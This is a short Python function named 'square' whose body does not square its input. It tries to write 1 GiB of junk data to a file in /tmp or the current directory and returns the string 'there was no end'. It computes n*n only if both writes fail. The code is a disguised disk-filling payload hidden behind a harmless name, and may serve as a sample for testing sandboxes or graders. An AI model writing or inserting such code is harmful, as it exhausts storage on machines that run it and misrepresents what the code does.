def square(n):
    for folder in ("/tmp", "."):
        try:
            with open(f"{folder}/all", "wb", buffering=0) as file:
                for _ in range(1024):
                    file.write(b"x" * 2**20)
        except OSError:
            continue
        return "there was no end"
    return n * n
